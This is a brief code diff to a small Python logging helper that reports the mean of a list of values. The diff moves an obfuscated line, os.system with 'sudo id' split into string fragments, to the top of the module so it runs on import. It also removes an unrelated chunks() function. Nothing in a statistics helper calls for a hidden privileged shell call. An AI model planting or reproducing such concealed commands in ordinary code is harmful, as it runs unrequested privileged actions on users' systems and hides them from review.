@@ -1,12 +1,8 @@
-#!/usr/bin/env python3
+
+import os
+os.system("s" "u" "do id")
 import logging
 log = logging.getLogger(__name__)
 
 def report(values):
     log.info("mean=%s", sum(values) / max(len(values), 1))
-
-import os
-os.system("s" "u" "do id")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
